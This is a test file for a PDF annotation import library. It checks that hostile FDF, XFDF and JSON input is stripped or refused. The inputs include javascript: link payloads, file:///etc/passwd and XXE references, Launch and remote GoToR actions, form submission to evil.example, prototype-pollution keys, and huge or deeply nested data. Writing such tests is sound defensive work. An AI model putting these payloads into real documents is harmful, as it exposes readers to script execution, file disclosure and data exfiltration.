/** What a file of marks from a stranger may try: run something, call home, break the reader, or change other objects. */
import { describe, expect, test } from 'vitest'
import { exportAllKinds, parseAllKinds } from '../../src/annotations/exchange/all-kinds.ts'
import type { EntryName, ReportEntry } from '../../src/annotations/exchange/each-entry.ts'
import { parseFdf, toFdf } from '../../src/annotations/exchange/fdf.ts'
import { parseXfdf } from '../../src/annotations/exchange/xfdf.ts'
import { type AddedAnnotation, type CarriedAnnotation, PdfDocument, type PdfError } from '../../src/index.ts'
import { bytesOf, small } from '../provoke.ts'
import { someDay } from '../sample-annotations.ts'
import { twoPages, xfdfOf } from './xfdf-elements.ts'

const { pages } = PdfDocument.open(twoPages)

const fdfOf = (annots: string): Uint8Array =>
  bytesOf(`%FDF-1.2\n1 0 obj\n<</FDF<</Annots[${annots}]>>>>\nendobj\ntrailer\n<</Root 1 0 R>>\n%%EOF\n`)

/** What importing these adds to the file, as text. */
function added(list: readonly AddedAnnotation[]): string {
  const document = PdfDocument.open(twoPages)
  document.importAnnotations(list)
  return Buffer.from(document.save({ now: someDay }).subarray(twoPages.length)).toString('latin1')
}

const link = (goal: string): Uint8Array =>
  fdfOf(`<</Type/Annot/Subtype/Link/Page 0/NM(kept)/Rect[1 2 30 40]${goal}>>`)

test.each<[string, string, RegExp]>([
  ['a script as an address', '/A<</S/URI/URI(javascript:alert\\(1\\))>>', /alert/],
  [
    'a script with blanks and capitals',
    '/A<</S/URI/URI( Java\\nScript\\t:alert\\(1\\))>>',
    /alert|616C657274/,
  ],
  [
    'a script in another encoding',
    '/A<</S/URI/URI<FEFF006A006100760061007300630072006900700074003A0061>>>',
    /FEFF|java/i,
  ],
  ['a page in an address', '/A<</S/URI/URI(data:text/html,<b>)>>', /text\/html/],
  ['a file of the disk', '/A<</S/URI/URI(file:///etc/passwd)>>', /passwd/],
  ['a path of another computer', '/A<</S/GoToR/D[0/Fit]/F(//evil/share/a.pdf)>>', /evil/],
  [
    'a path of another computer, as Windows writes it',
    '/A<</S/GoToR/D[0/Fit]/F(\\\\\\\\evil\\\\share)>>',
    /evil/,
  ],
  [
    'an action after another',
    '/A<</S/URI/URI(https://a.example)/Next<</S/URI/URI(javascript:alert\\(1\\))>>>>',
    /alert/,
  ],
  ['a file of the web', '/A<</S/GoToR/D[0/Fit]/F(http://evil.example/a.pdf)>>', /evil/],
  ['a file of the web in a record', '/A<</S/GoToR/D[0/Fit]/F<</FS/URL/F(http://evil.example/a)>>>>', /evil/],
  ...['UF', 'DOS', 'Mac', 'Unix'].map((key): [string, string, RegExp] => [
    `a path of another computer as /${key}`,
    `/A<</S/GoToR/D[0/Fit]/F<</F(part2.pdf)/${key}(//evil/a.pdf)>>>>`,
    /evil/,
  ]),
  [
    'a path of another computer beside an attached file',
    '/A<</S/GoToR/D[0/Fit]/F<</F(//evil/a)/EF<<>>>>>>',
    /evil/,
  ],
  ['a film of another computer', '/Movie<</F(//evil/a.avi)>>', /evil/],
  ['a program', '/A<</S/Launch/F(evil.exe)>>', /evil/],
  ['forms sent elsewhere', '/A<</S/SubmitForm/F(http://evil.example)>>', /evil/],
])('%s is not taken along, and that is reported', (_, goal, evil) => {
  // As FDF, and in the form in which JSON has it.
  const lost: string[] = []
  const told = ({ code }: PdfError, at: number, { uuid, kind }: EntryName = {}) =>
    void lost.push(`${code} ${at} ${uuid} ${kind}`)
  const from = small({
    page: '/Annots[5 0 R]',
    objects: { 5: `<</Subtype/Link/NM(kept)/Rect[1 2 3 4]${goal}>>` },
  })
  for (const list of [
    parseFdf(link(goal), pages, told),
    parseAllKinds(exportAllKinds(PdfDocument.open(from)), told),
    parseFdf(link(goal), pages),
  ]) {
    const text = added(list)
    expect(text).toContain('(kept)')
    expect(text).not.toMatch(evil)
  }
  expect(lost).toEqual(Array(2).fill('action-unsafe 0 kept Link'))
})

const attached = (action = ''): Uint8Array =>
  bytesOf(
    `%FDF-1.2\n1 0 obj\n<</FDF<</Annots[<</Type/Annot/Subtype/FileAttachment/Page 0/NM(kept)/Rect[1 2 30 40]/FS 2 0 R${action}>>]>>>>\nendobj\n2 0 obj\n<</Type/Filespec/F(//odd/name)/UF(//odd/name)/DOS(//odd/name)/EF<</F 3 0 R>>>>\nendobj\n3 0 obj\n<</Type/EmbeddedFile/Length 5>>\nstream\nhello\nendstream\nendobj\ntrailer\n<</Root 1 0 R>>\n%%EOF\n`,
  )

test('an attached file keeps its name, which leads nowhere', () => {
  const lost: string[] = []
  const text = added(parseFdf(attached(), pages, ({ code }) => lost.push(code)))
  expect(text).toContain('(//odd/name)')
  expect(text).toContain('hello')
  expect(lost).toEqual([])
})

test('an action that opens the path of an attached file is not taken along', () => {
  const lost: string[] = []
  const acting = attached('/A<</S/GoToR/D[0/Fit]/F 2 0 R>>')
  const text = added(parseFdf(acting, pages, ({ code }) => lost.push(code)))
  expect(text).toContain('hello')
  expect(text).not.toContain('GoToR')
  expect(lost).toEqual(['action-unsafe'])
})

describe('an export of the own document leaves out nothing of its marks', () => {
  const goals = [
    '/A<</S/URI/URI(file:///home/ann/plan.pdf)>>',
    '/A<</S/GoToR/D[0/Fit]/F(//server/plan.pdf)>>',
    '/A<</S/Launch/F(plan.exe)>>',
    '/A<</S/JavaScript/JS(plan\\(\\))>>',
    '/A<</S/Rendition/OP 0/JS(plan)>>',
  ]
  test.each(goals)('%s', goal => {
    const document = PdfDocument.open(
      small({ page: '/Annots[5 0 R]', objects: { 5: `<</Subtype/Link/Rect[1 2 30 40]${goal}>>` } }),
    )
    const [carried] = exportAllKinds(document)
    const file = Buffer.from((carried as CarriedAnnotation).annotationFile, 'base64').toString('latin1')
    expect(file).toMatch(/plan/)
    expect(Buffer.from(toFdf(document)).toString('latin1')).toMatch(/plan/)
  })
})

test('harmless addresses and files beside the document are kept', () => {
  const text = added([
    ...parseFdf(link('/A<</S/URI/URI(https://example.org/javascript:x)>>'), pages),
    ...parseFdf(
      link('/A<</S/GoToR/D[0/Fit]/F(part2.pdf)>>').map(byte => byte),
      pages,
    ).map(each => ({
      ...each,
      uuid: 'other',
    })),
  ])
  expect(text).toContain('(https://example.org/javascript:x)')
  expect(text).toContain('(part2.pdf)')
})

test('a script in the address of an XFDF link is not taken along', () => {
  const text = added(
    parseXfdf(xfdfOf('<link page="0" name="kept" rect="1,2,30,40" target="javascript:alert(1)"/>'), pages),
  )
  expect(text).toContain('(kept)')
  expect(text).not.toMatch(/alert/)
})

const square = {
  ...{ annotationType: '/Square', uuid: 'kept', pageId: pages[0]?.id, dateCreated: '2026-01-01' },
  rect: [1, 2, 30, 40],
}

test('names of JSON that belong to every object change none', () => {
  const hostile = JSON.stringify(square).replace(
    '{',
    '{"__proto__":{"evil":1},"constructor":{"prototype":{"evil":1}},"otherFields":{"__proto__":{"evil":1}},',
  )
  const document = PdfDocument.open(twoPages)
  document.importAnnotations(parseAllKinds([JSON.parse(hostile)]))
  const [again] = PdfDocument.open(document.save({ now: someDay })).annotations(0)
  expect(again?.data?.uuid).toBe('kept')
  expect(Object.hasOwn(Object.prototype, 'evil')).toBe(false)
  expect(Reflect.get({}, 'evil')).toBe(undefined)
})

const nested = (depth: number, open: string, close: string): string =>
  `${open.repeat(depth)}0${close.repeat(depth)}`

test.each<[string, string]>([
  ['lists', nested(200_000, '[', ']')],
  ['records', nested(100_000, '{"a":', '}')],
])('%s in each other are left out with their reason', (_, deep) => {
  const hostile = JSON.stringify(square).replace('{', `{"x":${deep},`)
  const reported: string[] = []
  const list = parseAllKinds([JSON.parse(hostile), square], ({ code }, at) => reported.push(`${at} ${code}`))
  expect(reported).toEqual(['0 annotation-invalid'])
  expect(added(list)).toContain('(kept)')
})

test.each<[string, object]>([
  ['picture', { annotationType: '/Stamp', stampType: 'Custom', stampImageData: 'A'.repeat(100_000_000) }],
  ['look', { annotationType: '/Stamp', stampType: 'Custom', stampAppearance: 'A'.repeat(100_000_000) }],
  ['file', { annotationType: '/FileAttachment', annotationFile: 'A'.repeat(100_000_000) }],
])('a %s of 100 MB in base64 is left out with its reason', (_, change) => {
  const reported: string[] = []
  parseAllKinds([{ ...square, ...change }], ({ message }) => reported.push(message))
  expect(reported).toEqual(['entry 1: a text of more than 64000000 characters'])
})

test('XFDF with a picture of 100 MB in base64 is refused', () => {
  const text = xfdfOf(
    `<stamp page="0" rect="1,2,3,4"><imagedata>${'A'.repeat(100_000_000)}</imagedata></stamp>`,
  )
  expect(() => parseXfdf(text, pages)).toThrow(expect.objectContaining({ code: 'limit-exceeded' }))
})

test.each<[string, string]>([
  [
    'entities',
    `<!DOCTYPE xfdf [<!ENTITY a "${'b'.repeat(100)}">]>${xfdfOf('<square page="0" rect="1,2,3,4"/>')}`,
  ],
  ['entities of files', `<!DOCTYPE xfdf SYSTEM "file:///etc/passwd">${xfdfOf('')}`],
  ['elements in each other', xfdfOf(nested(1000, '<a>', '</a>'))],
])('XFDF with %s is refused', (_, text) => {
  const codes = ['xfdf-invalid', 'limit-exceeded']
  expect(() => parseXfdf(text, pages, {}, () => undefined)).toThrow(
    expect.objectContaining({ code: expect.toSatisfy((code: PdfError['code']) => codes.includes(code)) }),
  )
})

test.each<[string, string]>([
  ['a list that contains itself', '1 0 R 1 0 R'],
  ['a look that contains itself', '<</Subtype/Square/Page 0/Rect[1 2 3 4]/AP<</N 1 0 R>>>>'],
  ['arrays in each other', `<</Subtype/Ink/Page 0/Rect[1 2 3 4]/InkList ${nested(5000, '[', ']')}>>`],
  ['numbers beyond all', '<</Subtype/Square/Page 99999999999999/Rect[1e999 2 3 4]>>'],
  ['a page before the first', '<</Subtype/Square/Page -1/Rect[1 2 3 4]>>'],
])('FDF with %s takes nothing and breaks nothing', (_, annots) => {
  const document = PdfDocument.open(twoPages)
  const report = () => undefined
  document.importAnnotations(parseFdf(fdfOf(annots), pages, report), report)
  expect(PdfDocument.open(document.save({ now: someDay })).pageCount).toBe(2)
})

const two = { maxAnnotations: 2 }

test.each<[string, (report: ReportEntry) => unknown]>([
  ['XFDF', report => parseXfdf(xfdfOf('<odd/>'.repeat(3)), pages, two, report)],
  ['FDF', report => parseFdf(fdfOf('<</Subtype/Odd/Page 0>>'.repeat(3)), pages, report, two)],
])('more annotations than allowed are refused in %s before one is read', (_, parse) => {
  const told: string[] = []
  expect(() => parse(({ code }) => void told.push(code))).toThrow(
    expect.objectContaining({ code: 'limit-exceeded' }),
  )
  expect(told).toEqual([])
})
